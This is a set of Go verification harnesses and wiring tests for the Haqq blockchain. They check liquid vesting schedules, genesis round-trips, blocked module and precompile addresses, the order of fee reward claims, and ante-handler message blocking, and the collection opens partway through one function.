		tv := vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(c11Target), c11Funder, ov, time.Unix(st, 0), lk, sdkvesting.Periods{{Length: 0, Amount: ov}}, &ch)
		zz.Assume(tv.Validate() == nil)
		w.ak.accs[string(c11Target)] = tv
		w.bank.bal[string(c11Target)+"/aISLM"] = ov.AmountOf("aISLM")
	}
	amount := zz.AnyAmount("amount", 100)
	zz.Assume(amount.IsPositive())
	w.erc.convFail = zz.AnyBool("erc20ConversionFails")

	t := zz.AnyInt64In("t", 0, c11MaxStart+4*c11MaxLen)
	toBefore := w.bank.get(to, "aISLM")
	lockedBefore := c11LockedUp(w.ak.accs[string(to)], t)
	holdBefore := w.bank.get(c11Holder, c11Liquid).Add(w.erc.tok(c11Holder, c11Liquid))

	_, err := w.k.Redeem(sdk.WrapSDKContext(w.ctx), types.NewMsgRedeem(c11Holder, to, sdk.NewCoin(c11Liquid, amount)))
	if err != nil {
		zz.Reach("rejected")
		return
	}
	zz.Reach("redeemed")
	zz.Assert(amount.LTE(holdBefore), "cannot redeem more than held")
	zz.Assert(w.bank.get(c11Holder, c11Liquid).Add(w.erc.tok(c11Holder, c11Liquid)).Equal(holdBefore.Sub(amount)), "the holder gives up exactly the redeemed liquid amount")
	zz.Assert(w.bank.sup(c11Liquid).Equal(supBefore.Sub(amount)), "liquid supply burned = redeemed amount")
	zz.Assert(w.bank.get(to, "aISLM").Equal(toBefore.Add(amount)), "redeeming returns exactly the redeemed amount")
	w.checkInvariant(surplus, "after redeem")

	// no early unlock: of the returned coins, at most the part of the liquid token's schedule that has matured by t may be
	// unlocked at t (reference: the schedule recorded before the call, period amounts as upper bounds).
	matured := sdk.ZeroInt()
	rel := d0.StartTime.Unix()
	for _, p := range d0.LockupPeriods {
		rel += p.Length
		if rel <= t {
			matured = matured.Add(p.Amount.AmountOf("aISLM"))
		}
	}
	mustStayLocked := amount.Sub(matured)
	lockedAfter := c11LockedUp(w.ak.accs[string(to)], t)
	zz.ObserveInt("lockedAfter", lockedAfter)
	if mustStayLocked.IsPositive() && t >= now {
		zz.Assert(lockedAfter.Sub(lockedBefore).GTE(mustStayLocked), "redeemed coins stay locked at least as long as the liquid token's schedule says")
	}
	if t >= now {
		zz.Assert(lockedAfter.GTE(lockedBefore), "redeeming never unlocks what the recipient had locked")
	}
	zz.Reach("end")
}
