package types

// Harnesses for property C11 (liquid vesting split) - pure schedule algebra.

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	vestingTypes "github.com/haqq-network/haqq/x/vesting/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

const (
	lMaxStart = int64(1) << 60
	lMaxLen   = int64(1) << 56
	lMaxT     = int64(1) << 61
)

func lOther() bool { return zz.ParamInt("denoms", 1) == 2 }

func lAnyPeriods(tag string, n int) sdkvesting.Periods {
	ps := make(sdkvesting.Periods, 0, n)
	for i := 0; i < n; i++ {
		t := tag + string(rune('0'+i))
		var amt sdk.Coins
		if lOther() {
			amt = zz.AnyCoins(t+".amt", 100, "aISLM", "aLIQUID7")
		} else {
			amt = zz.AnyCoins(t+".amt", 100, "aISLM")
		}
		ps = append(ps, sdkvesting.Period{Length: zz.AnyInt64In(t+".len", 0, lMaxLen), Amount: amt})
	}
	return ps
}

// VerifC11_Split: for every period decreased_i + diff_i = original_i (target denom), nothing negative,
// other denominations untouched, sum(diff) = requested amount, lengths preserved.
func VerifC11_Split() {
	n := zz.ParamInt("n", 3)
	ps := lAnyPeriods("p", n)
	s := zz.AnyAmount("subtrahend", 100)
	total := ps.TotalAmount().AmountOf("aISLM")
	dec, diff, err := SubtractAmountFromPeriods(ps, sdk.NewCoin("aISLM", s))
	if total.LT(s) || total.IsZero() {
		zz.Assert(err != nil, "insufficient total is rejected")
		zz.Reach("rejected")
		return
	}
	zz.Assert(err == nil, "a split within the total succeeds")
	zz.Assert(len(dec) == n && len(diff) == n, "both results keep the number of periods")
	sum := sdk.ZeroInt()
	for i := 0; i < n; i++ {
		a := ps[i].Amount.AmountOf("aISLM")
		d := dec[i].Amount.AmountOf("aISLM")
		f := diff[i].Amount.AmountOf("aISLM")
		zz.ObserveInt("dec"+string(rune('0'+i)), d)
		zz.ObserveInt("diff"+string(rune('0'+i)), f)
		zz.Assert(d.Add(f).Equal(a), "decreased + moved = original per period")
		zz.Assert(!d.IsNegative() && !f.IsNegative(), "no part is negative")
		zz.Assert(dec[i].Length == ps[i].Length && diff[i].Length == ps[i].Length, "period lengths preserved")
		if lOther() {
			zz.Assert(dec[i].Amount.AmountOf("aLIQUID7").Equal(ps[i].Amount.AmountOf("aLIQUID7")), "other denominations stay on the account")
			zz.Assert(diff[i].Amount.AmountOf("aLIQUID7").IsZero(), "other denominations are not moved")
		}
		sum = sum.Add(f)
	}
	zz.Assert(sum.Equal(s), "moved total equals the requested amount")
	zz.Reach("end")
}

// VerifC11_NoEarlyUnlock: the schedule recorded for the liquid token (as Liquidate composes it from
// ExtractUpcomingPeriods, SubtractAmountFromPeriods, ReplacePeriodsTail and CurrentPeriodShift) has every release
// event at exactly the absolute time of the corresponding event of the original lockup, hence releases nothing earlier.
func VerifC11_NoEarlyUnlock() {
	n := zz.ParamInt("n", 3)
	start := zz.AnyInt64In("start", 0, lMaxStart)
	lockup := lAnyPeriods("p", n)
	now := zz.AnyInt64In("now", 0, lMaxT)
	amount := zz.AnyAmount("amount", 100)
	// Liquidate only proceeds when nothing is unvested, which (vesting and lockup share the start time, grant > 0)
	// implies block time > start; that guard itself is exercised by the keeper-level harness.
	zz.Assume(now > start)
	end := start
	for _, p := range lockup {
		end += p.Length
	}
	// --- the composition of keeper.Liquidate (msg_server.go), same calls in the same order
	upcoming := ExtractUpcomingPeriods(start, end, lockup, now)
	dec, diff, err := SubtractAmountFromPeriods(upcoming, sdk.NewCoin("aISLM", amount))
	if err != nil {
		zz.Reach("rejected")
		return
	}
	newLockup := ReplacePeriodsTail(lockup, dec)
	diff[0].Length -= CurrentPeriodShift(start, now, newLockup)
	// --- oracle
	past := len(lockup) - len(upcoming)
	zz.Assert(len(newLockup) == len(lockup), "account keeps the same number of lockup periods")
	for i := 0; i < past; i++ {
		zz.Assert(zz.CoinsEq(newLockup[i].Amount, lockup[i].Amount) && newLockup[i].Length == lockup[i].Length, "past periods untouched")
	}
	origT := start
	for i := 0; i < past; i++ {
		origT += lockup[i].Length
	}
	liqT := now
	for i := range diff {
		origT += lockup[past+i].Length
		liqT += diff[i].Length
		zz.Assert(diff[i].Length >= 0, "liquid schedule has no negative period length")
		zz.Assert(liqT == origT, "liquid token event i is at the absolute time of the original lockup event")
		zz.Assert(newLockup[past+i].Length == lockup[past+i].Length, "account lockup lengths unchanged")
		zz.Assert(newLockup[past+i].Amount.AmountOf("aISLM").Add(diff[i].Amount.AmountOf("aISLM")).Equal(lockup[past+i].Amount.AmountOf("aISLM")),
			"account lockup + liquid schedule = original lockup per period")
	}
	// consequence, stated through the real step function: at every instant the liquid schedule has released no more
	// than the original lockup released since the liquidation time
	t := zz.AnyInt64In("t", 0, lMaxT)
	liqEnd := liqT
	got := vestingTypes.ReadSchedule(now, liqEnd, diff, diff.TotalAmount(), t)
	origAt := vestingTypes.ReadSchedule(start, end, lockup, lockup.TotalAmount(), t)
	origNow := vestingTypes.ReadSchedule(start, end, lockup, lockup.TotalAmount(), now)
	zz.Assume(t >= now)
	zz.Assert(got.AmountOf("aISLM").LTE(origAt.AmountOf("aISLM").Sub(origNow.AmountOf("aISLM"))), "liquid schedule never releases earlier than the original")
	zz.Reach("end")
}
