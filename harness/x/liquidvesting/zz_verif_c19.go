package liquidvesting

// Harness for property C19 (genesis export/import), liquid vesting module.

import (
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/x/liquidvesting/keeper"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

func c19Keeper() (keeper.Keeper, sdk.Context) {
	env := zz.NewEnv([]string{"liquidvesting"}, nil)
	ps := zz.NewSubspace(env, "liquidvesting", types.ParamKeyTable)
	k := keeper.NewKeeper(env.Key("liquidvesting"), zz.Codec(), ps, nil, nil, nil, nil)
	return k, env.Ctx
}

// VerifC19_Liquidvesting: Export(Init(Export(S))) = Export(S) for an arbitrary module state S with up to N liquid denoms.
func VerifC19_Liquidvesting() {
	k1, ctx1 := c19Keeper()
	p := types.Params{MinimumLiquidationAmount: zz.AnyAmount("minLiquidation", 128), EnableLiquidVesting: zz.AnyBool("enable")}
	zz.Assume(p.MinimumLiquidationAmount.IsPositive()) // Params.Validate: SetParams refuses anything else
	if err := k1.SetParams(ctx1, p); err != nil {
		panic(err)
	}
	if zz.AnyBool("hasCounter") {
		k1.SetDenomCounter(ctx1, zz.AnyUint64("counter"))
	}
	n := zz.ParamInt("denoms", 2)
	np := zz.ParamInt("periods", 2)
	for i := 0; i < n; i++ {
		if !zz.AnyBool("present" + string(rune('0'+i))) {
			continue
		}
		t := "d" + string(rune('0'+i))
		ps := make(sdkvesting.Periods, 0, np)
		for j := 0; j < np; j++ {
			ps = append(ps, sdkvesting.Period{Length: zz.AnyInt64In(t+".len"+string(rune('0'+j)), 0, 1<<56), Amount: zz.AnyCoins(t+".amt"+string(rune('0'+j)), 100, "aISLM")})
		}
		k1.SetDenom(ctx1, types.Denom{
			BaseDenom: "aLIQUID" + string(rune('0'+i)), DisplayDenom: "LIQUID" + string(rune('0'+i)), OriginalDenom: "aISLM",
			StartTime: time.Unix(zz.AnyInt64In(t+".start", 0, 1<<60), 0), EndTime: time.Unix(zz.AnyInt64In(t+".end", 0, 1<<61), 0), LockupPeriods: ps,
		})
	}
	g1 := ExportGenesis(ctx1, k1)
	// the export lists every stored denom (ids may have gaps: a fully redeemed denom is deleted, the counter never goes back)
	stored := 0
	for i := 0; i < n; i++ {
		name := "aLIQUID" + string(rune('0'+i))
		if _, ok := k1.GetDenom(ctx1, name); ok {
			stored++
			listed := false
			for _, d := range g1.Denoms {
				listed = listed || d.BaseDenom == name
			}
			zz.Assert(listed, "every stored liquid denom is in the exported genesis, whatever ids are missing before it")
		}
	}
	zz.Assert(len(g1.Denoms) == stored, "the exported genesis lists exactly the stored liquid denoms")

	k2, ctx2 := c19Keeper()
	InitGenesis(ctx2, k2, *g1)
	g2 := ExportGenesis(ctx2, k2)

	zz.ObserveUint64("counter", g2.DenomCounter)
	zz.Assert(g2.DenomCounter == g1.DenomCounter, "denom counter survives export/import")
	zz.Assert(g2.Params.EnableLiquidVesting == g1.Params.EnableLiquidVesting && g2.Params.MinimumLiquidationAmount.Equal(g1.Params.MinimumLiquidationAmount), "parameters survive")
	zz.Assert(len(g2.Denoms) == len(g1.Denoms), "no liquid denom is dropped or invented")
	for i := range g1.Denoms {
		a, b := g1.Denoms[i], g2.Denoms[i]
		zz.Assert(a.BaseDenom == b.BaseDenom && a.DisplayDenom == b.DisplayDenom && a.OriginalDenom == b.OriginalDenom, "denom names survive")
		zz.Assert(a.StartTime.Equal(b.StartTime) && a.EndTime.Equal(b.EndTime), "denom times survive")
		zz.Assert(len(a.LockupPeriods) == len(b.LockupPeriods), "schedule length survives")
		for j := range a.LockupPeriods {
			zz.Assert(a.LockupPeriods[j].Length == b.LockupPeriods[j].Length && zz.CoinsEq(a.LockupPeriods[j].Amount, b.LockupPeriods[j].Amount), "every period survives")
		}
		d2, found := k2.GetDenom(ctx2, a.BaseDenom)
		zz.Assert(found && d2.StartTime.Equal(a.StartTime), "GetDenom answers identically")
	}
	zz.Assert(k2.GetDenomCounter(ctx2) == k1.GetDenomCounter(ctx1), "GetDenomCounter answers identically")
	zz.Reach("end")
}
