package app

// Native probes for the wiring facts that /verif checks read off the SSA of NewHaqq. They construct the real application and
// inspect the object graph; vcheck runs them (go test -overlay) to confirm a wiring mismatch before reporting it.

import (
	"reflect"
	"testing"
)

func verifBankKeeperPkg(t *testing.T, keeper interface{}) string {
	f := reflect.ValueOf(keeper).Elem().FieldByName("bankKeeper")
	if !f.IsValid() || f.IsNil() {
		t.Fatalf("no bankKeeper field in %T", keeper)
	}
	ty := f.Elem().Type()
	if ty.Kind() == reflect.Ptr {
		ty = ty.Elem()
	}
	return ty.PkgPath() + "." + ty.Name()
}

// TestVerifWiringC14: the keepers whose burns must be redirected to the community pool (gov: burned deposits; staking:
// slashed stake) hold Haqq's bank keeper wrapper, not the plain SDK bank keeper.
func TestVerifWiringC14(t *testing.T) {
	a, _ := Setup(false, nil, "haqq_11235-1")
	const want = "github.com/haqq-network/haqq/x/bank/keeper.BaseKeeper"
	gov := verifBankKeeperPkg(t, &a.GovKeeper)
	stk := verifBankKeeperPkg(t, a.StakingKeeper.Keeper)
	t.Logf("WIRING-PROBE gov.bankKeeper=%s staking.bankKeeper=%s", gov, stk)
	if gov != want {
		t.Errorf("the gov keeper burns through %s, not through %s", gov, want)
	}
	if stk != want {
		t.Errorf("the staking keeper burns through %s, not through %s", stk, want)
	}
}

// TestVerifWiringC13: the coinomics end blocker mints on the bonded total of the block it runs in, so it has to run after
// the staking end blocker (which moves tokens between the bonded and the not-bonded pool when the validator set changes).
func TestVerifWiringC13(t *testing.T) {
	a, _ := Setup(false, nil, "haqq_11235-1")
	order := a.mm.OrderEndBlockers
	idx := func(name string) int {
		for i, n := range order {
			if n == name {
				return i
			}
		}
		return -1
	}
	stk, coin := idx("staking"), idx("coinomics")
	t.Logf("WIRING-PROBE end blockers: staking at %d, coinomics at %d", stk, coin)
	if stk < 0 || coin < 0 || coin < stk {
		t.Errorf("the coinomics end blocker (position %d) must run after the staking end blocker (position %d)", coin, stk)
	}
}
