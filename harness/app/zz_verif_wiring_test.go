package app

// Native probes for the wiring facts that /verif checks read off the SSA of NewHaqq. They construct the real application and
// inspect the object graph; vcheck runs them (go test -overlay) to confirm a wiring mismatch before reporting it.

import (
	"reflect"
	"testing"
)

func verifBankKeeperPkg(t *testing.T, keeper interface{}) string {
	f := reflect.ValueOf(keeper).Elem().FieldByName("bankKeeper")
	if !f.IsValid() || f.IsNil() {
		t.Fatalf("no bankKeeper field in %T", keeper)
	}
	ty := f.Elem().Type()
	if ty.Kind() == reflect.Ptr {
		ty = ty.Elem()
	}
	return ty.PkgPath() + "." + ty.Name()
}

// TestVerifWiringC14: the keepers whose burns must be redirected to the community pool (gov: burned deposits; staking:
// slashed stake) hold Haqq's bank keeper wrapper, not the plain SDK bank keeper.
func TestVerifWiringC14(t *testing.T) {
	a, _ := Setup(false, nil, "haqq_11235-1")
	const want = "github.com/haqq-network/haqq/x/bank/keeper.BaseKeeper"
	gov := verifBankKeeperPkg(t, &a.GovKeeper)
	stk := verifBankKeeperPkg(t, a.StakingKeeper.Keeper)
	t.Logf("WIRING-PROBE gov.bankKeeper=%s staking.bankKeeper=%s", gov, stk)
	if gov != want {
		t.Errorf("the gov keeper burns through %s, not through %s", gov, want)
	}
	if stk != want {
		t.Errorf("the staking keeper burns through %s, not through %s", stk, want)
	}
}
