package app

// Harness for property C12 at the application's wiring: the DAO ledger equals the ucdao module account's coins only because
// MsgFund is the one way coins enter that account. Every other route (bank send / multi-send, EVM value transfer, IBC
// receive) is closed by the bank's blocked-address list, which the application builds in BlockedAddrs(): the ucdao module
// account - and every other module account the application registers - is on it.

import (
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"

	ucdaotypes "github.com/haqq-network/haqq/x/ucdao/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

func VerifC12_DaoAccountBlocked() {
	a := &Haqq{}
	blocked := a.BlockedAddrs()
	zz.Assert(blocked[authtypes.NewModuleAddress(ucdaotypes.ModuleName).String()], "the ucdao module account cannot receive coins outside MsgFund: it is on the bank's blocked-address list")
	for name := range GetMaccPerms() {
		zz.Assert(blocked[authtypes.NewModuleAddress(name).String()], "every registered module account is on the blocked-address list")
	}
	zz.Reach("end")
}
