package app

// Harness for property C12 at the application's wiring: the DAO ledger equals the ucdao module account's coins only because
// MsgFund is the one way coins enter that account. Every other route (bank send / multi-send, EVM value transfer, IBC
// receive) is closed by the bank's blocked-address list, which the application builds in BlockedAddrs(): the ucdao module
// account - and every other module account the application registers - is on it.

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"

	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	ucdaotypes "github.com/haqq-network/haqq/x/ucdao/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

func VerifC12_DaoAccountBlocked() {
	a := &Haqq{}
	blocked := a.BlockedAddrs()
	zz.Assert(blocked[authtypes.NewModuleAddress(ucdaotypes.ModuleName).String()], "the ucdao module account cannot receive coins outside MsgFund: it is on the bank's blocked-address list")
	for name := range GetMaccPerms() {
		zz.Assert(blocked[authtypes.NewModuleAddress(name).String()], "every registered module account is on the blocked-address list")
	}
	zz.Reach("end")
}

// VerifC02_PrecompilesBlocked: a direct call into a stateful precompile with value attached would make the signer's account
// journal-dirty around Cosmos-side balance changes the precompile does not mirror (self-bond of createValidator, reward
// payouts): the final Commit would mint or burn the difference. What stops it is the bank's blocked-address list - the value
// transfer to the precompile address fails at the precompile's opening flush. Every available precompile address is on the
// list, under the chain's own address prefix.
func VerifC02_PrecompilesBlocked() {
	a := &Haqq{}
	blocked := a.BlockedAddrs()
	for _, hex := range evmtypes.AvailableEVMExtensions {
		addr := sdk.MustBech32ifyAddressBytes("haqq", common.HexToAddress(hex).Bytes())
		zz.Assert(blocked[addr], "every available precompile address is on the bank's blocked-address list (keyed by its haqq1... address)")
	}
	zz.Reach("end")
}
