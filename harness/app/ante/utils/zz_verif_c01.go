package utils

// Harness for property C01 in the fee path both ante routes share: when the fee payer's balance does not cover the fee,
// staking rewards are claimed - delegation by delegation, in the order of the staking store, stopping as soon as the
// shortfall is covered. Which delegations are claimed (and so every balance, the distribution state and the events) must be
// a function of the chain state alone. The engine explores every iteration order of every Go map the code ranges over, so
// an order-dependent choice shows up as a path that disagrees with the store-order reference.

import (
	"errors"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	zz "github.com/haqq-network/haqq/zzverif"
)

type c01Bank struct{ bal sdkmath.Int }

func (b c01Bank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.bal)
}

type c01Staking struct{ vals []sdk.ValAddress }

func (s c01Staking) BondDenom(ctx sdk.Context) string { return "aISLM" }
func (s c01Staking) IterateDelegations(ctx sdk.Context, delegator sdk.AccAddress, fn func(index int64, delegation stakingtypes.DelegationI) (stop bool)) {
	for i, v := range s.vals { // store order
		if fn(int64(i), stakingtypes.Delegation{DelegatorAddress: delegator.String(), ValidatorAddress: v.String()}) {
			return
		}
	}
}

type c01Distr struct {
	rewards map[string]sdkmath.Int
	claimed *[]string
	failAt  string
}

func (d c01Distr) WithdrawDelegationRewards(ctx sdk.Context, delAddr sdk.AccAddress, valAddr sdk.ValAddress) (sdk.Coins, error) {
	if valAddr.String() == d.failAt {
		return nil, errors.New("no delegation distribution info")
	}
	*d.claimed = append(*d.claimed, valAddr.String())
	r := d.rewards[valAddr.String()]
	if r.IsZero() {
		return sdk.Coins{}, nil
	}
	return sdk.NewCoins(sdk.NewCoin("aISLM", r)), nil
}

func VerifC01_ClaimRewardsOrder() {
	zz.MapOrder(true) // every range over a Go map forks over all iteration orders
	env := zz.NewEnv([]string{"distribution"}, nil)
	n := zz.ParamInt("delegations", 3)
	var vals []sdk.ValAddress
	rewards := map[string]sdkmath.Int{}
	for i := 0; i < n; i++ {
		v := sdk.ValAddress([]byte{byte(i + 1), 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9})
		vals = append(vals, v)
		rewards[v.String()] = zz.AnyAmount("reward."+string(rune('0'+i)), 64)
	}
	fee := zz.AnyAmount("fee", 66)
	zz.Assume(fee.IsPositive()) // both callers skip the claim for a zero fee
	bal := zz.AnyAmount("balance", 66)
	var claimed []string
	addr := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	err := ClaimStakingRewardsIfNecessary(env.Ctx, c01Bank{bal: bal}, c01Distr{rewards: rewards, claimed: &claimed}, c01Staking{vals: vals}, addr, sdk.Coins{sdk.Coin{Denom: "aISLM", Amount: fee}})
	// reference: walk the delegations in store order until the shortfall is covered
	var want []string
	covered := bal.GTE(fee)
	if !covered {
		short, got := fee.Sub(bal), sdkmath.ZeroInt()
		for _, v := range vals {
			want = append(want, v.String())
			got = got.Add(rewards[v.String()])
			if got.GTE(short) {
				covered = true
				break
			}
		}
	}
	zz.Assert((err == nil) == covered, "the fee is covered exactly when balance plus the rewards (taken in store order) reach it")
	same := len(claimed) == len(want)
	for i := 0; same && i < len(want); i++ {
		same = claimed[i] == want[i]
	}
	zz.Assert(same, "the delegations whose rewards are withdrawn are the shortest store-order prefix that covers the shortfall - on every replica")
	if len(want) > 0 && len(want) < n && covered {
		zz.Reach("?early-exit")
	}
	zz.Reach("end")
}
