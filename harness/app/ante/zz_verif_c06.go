package ante

// Harness for property C06 (route separation and blocked message types): the real ante handler built by NewAnteHandler,
// driven with symbolic message forests and extension-option lists. The three blocking checks sit in front of every
// decorator that needs a keeper, so the outcome is classified by the sentinel error each of them returns.

import (
	"errors"

	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	errortypes "github.com/cosmos/cosmos-sdk/types/errors"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c06Tx struct {
	msgs []sdk.Msg
	opts []*codectypes.Any
}

func (t c06Tx) GetMsgs() []sdk.Msg                        { return t.msgs }
func (t c06Tx) ValidateBasic() error                      { return nil }
func (t c06Tx) GetExtensionOptions() []*codectypes.Any    { return t.opts }
func (t c06Tx) GetNonCriticalExtensionOptions() []*codectypes.Any { return nil }

type c06Stats struct {
	execs       int  // number of MsgExec nodes in the forest
	blockedExec bool // a disabled message type sits (at any depth) inside a MsgExec
	blockedGrant bool // a MsgGrant (anywhere the scan looks) grants a disabled type
	topEth      bool // a MsgEthereumTx at the top level of the transaction
}

var c06Addr = sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})

func c06Grant(url string) sdk.Msg {
	m, err := authz.NewMsgGrant(c06Addr, c06Addr, authz.NewGenericAuthorization(url), nil)
	if err != nil {
		panic(err)
	}
	return m
}

// c06Node builds one message. kinds: 0 MsgExec, 1 grant(eth), 2 grant(vesting create), 3 grant(bank send),
// 4 MsgEthereumTx, 5 MsgCreateVestingAccount, 6 MsgSend.
func c06Node(tag string, depth, maxDepth, width int, inExec bool, st *c06Stats) sdk.Msg {
	n := 7
	first := 0
	if depth >= maxDepth {
		first = 1 // no further nesting
	}
	kind := first + zz.Choose(tag+".kind", n-first)
	switch kind {
	case 0:
		st.execs++
		cnt := 1 + zz.Choose(tag+".children", width)
		inner := make([]sdk.Msg, 0, cnt)
		for i := 0; i < cnt; i++ {
			inner = append(inner, c06Node(tag+"."+string(rune('a'+i)), depth+1, maxDepth, width, true, st))
		}
		e := authz.NewMsgExec(c06Addr, inner)
		return &e
	case 1:
		st.blockedGrant = true
		return c06Grant(sdk.MsgTypeURL(&evmtypes.MsgEthereumTx{}))
	case 2:
		st.blockedGrant = true
		return c06Grant(sdk.MsgTypeURL(&sdkvesting.MsgCreateVestingAccount{}))
	case 3:
		return c06Grant(sdk.MsgTypeURL(&banktypes.MsgSend{}))
	case 4:
		if inExec {
			st.blockedExec = true
		} else {
			st.topEth = true
		}
		return &evmtypes.MsgEthereumTx{}
	case 5:
		if inExec {
			st.blockedExec = true
		}
		return &sdkvesting.MsgCreateVestingAccount{}
	}
	return &banktypes.MsgSend{}
}

func c06Opt(url string) *codectypes.Any { return &codectypes.Any{TypeUrl: url} }

// VerifC06_Routes: for every message forest within the bound and every extension-option list.
func VerifC06_Routes() {
	maxDepth := zz.ParamInt("depth", 2)
	width := zz.ParamInt("width", 2)
	top := zz.ParamInt("top", 2)
	st := &c06Stats{}
	cnt := 1 + zz.Choose("top.count", top)
	msgs := make([]sdk.Msg, 0, cnt)
	for i := 0; i < cnt; i++ {
		msgs = append(msgs, c06Node("m"+string(rune('0'+i)), 1, maxDepth, width, false, st))
	}
	urls := []string{"/ethermint.evm.v1.ExtensionOptionsEthereumTx", "/ethermint.types.v1.ExtensionOptionsWeb3Tx", "/ethermint.types.v1.ExtensionOptionDynamicFeeTx", "/some.unknown.ExtensionOption"}
	var opts []*codectypes.Any
	first := zz.Choose("opt0", len(urls)+1) // len(urls) == no extension options at all
	if first < len(urls) {
		opts = append(opts, c06Opt(urls[first]))
		if second := zz.Choose("opt1", len(urls)+1); second < len(urls) {
			opts = append(opts, c06Opt(urls[second]))
		}
	}
	tx := c06Tx{msgs: msgs, opts: opts}
	h := NewAnteHandler(HandlerOptions{})
	var err error
	panicked := zz.Try(func() { _, err = h(sdk.Context{}, tx, false) })

	switch {
	case first == 3:
		zz.Assert(!panicked && errors.Is(err, errortypes.ErrUnknownExtensionOptions), "a transaction carrying an unknown extension option is rejected")
		zz.Reach("unknown-option")
	case first == 0:
		// Ethereum route: the first decorator insists on its transaction shape; nothing of the Cosmos routes runs.
		zz.Assert(panicked || err != nil, "the Ethereum route does not accept this non-Ethereum transaction object")
		zz.Reach("eth-route")
	default:
		// Cosmos routes (plain, dynamic fee, EIP-712)
		if st.topEth {
			zz.Assert(!panicked && errors.Is(err, errortypes.ErrInvalidType), "an Ethereum message wrapped in a plain Cosmos transaction is rejected")
			zz.Reach("top-level-eth")
		} else if st.blockedExec || st.blockedGrant {
			zz.Assert(!panicked && errors.Is(err, errortypes.ErrUnauthorized), "a blocked type nested in exec messages, or granted, is rejected")
			zz.Reach("blocked-nested")
		} else if st.execs <= 4 {
			// nothing blocked and well within the nesting cap: the blocking decorators let it through (the stub transaction
			// is then refused by the SDK's set-up decorator, which is not a blocking check)
			zz.Assert(!panicked && err != nil && !errors.Is(err, errortypes.ErrUnauthorized) && !errors.Is(err, errortypes.ErrInvalidType) && !errors.Is(err, errortypes.ErrUnknownExtensionOptions),
				"a transaction without blocked content is not rejected by the blocking checks")
			zz.Reach("benign")
		}
	}
	zz.Reach("end")
}
