package cosmos

// Harness for property C06, extension options on the legacy EIP-712 route: the router chooses the route from the first
// option only. The route's own check of the remaining options sits in the real VerifySignature: a transaction carrying
// anything besides the single ExtensionOptionsWeb3Tx is refused before any typed data is built.

import (
	"errors"
	"fmt"

	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	errortypes "github.com/cosmos/cosmos-sdk/types/errors"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	"github.com/cosmos/cosmos-sdk/x/auth/migrations/legacytx"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	apitypes "github.com/ethereum/go-ethereum/signer/core/apitypes"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/ethereum/eip712"
	haqqtypes "github.com/haqq-network/haqq/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/cosmos/cosmos-sdk/x/auth/migrations/legacytx.StdSignBytes -> c06StdSignBytes
//verif:override github.com/haqq-network/haqq/ethereum/eip712.LegacyWrapTxToTypedData -> c06WrapTypedData

var errC06TypedData = errors.New("typed data construction reached")

// c06StdSignBytes stands for the amino JSON sign bytes: an injective rendering of exactly the arguments it is given.
func c06StdSignBytes(chainID string, accnum, sequence, timeout uint64, fee legacytx.StdFee, msgs []sdk.Msg, memo string, tip *txtypes.Tip) []byte {
	s := fmt.Sprintf("chain=%s|acc=%d|seq=%d|timeout=%d|fee=%d|gas=%d|payer=%s|granter=%s|memo=%s|msgs=%d", chainID, accnum, sequence, timeout, fee.Amount.AmountOf("aISLM").Int64(), fee.Gas, fee.Payer, fee.Granter, memo, len(msgs))
	for _, m := range msgs {
		if ms, ok := m.(*banktypes.MsgSend); ok {
			s += fmt.Sprintf("|send:%s>%s:%d", ms.FromAddress, ms.ToAddress, ms.Amount.AmountOf("aISLM").Int64())
		} else {
			s += "|msg"
		}
	}
	return []byte(s)
}

var c06Captured string

func c06WrapTypedData(cdc codectypes.AnyUnpacker, chainID uint64, msg sdk.Msg, data []byte, feeDelegation *eip712.FeeDelegationOptions) (apitypes.TypedData, error) {
	c06Captured = fmt.Sprintf("typedDataChain=%d|%s", chainID, string(data))
	if feeDelegation != nil {
		c06Captured += "|feePayer=" + feeDelegation.FeePayer.String()
	}
	return apitypes.TypedData{}, errC06TypedData
}

type c06ExtTx struct {
	c03Tx
	opts []*codectypes.Any
}

func (t c06ExtTx) GetMsgs() []sdk.Msg                       { return []sdk.Msg{&banktypes.MsgSend{}} }
func (t c06ExtTx) GetExtensionOptions() []*codectypes.Any   { return t.opts }
func (t c06ExtTx) GetNonCriticalExtensionOptions() []*codectypes.Any { return nil }

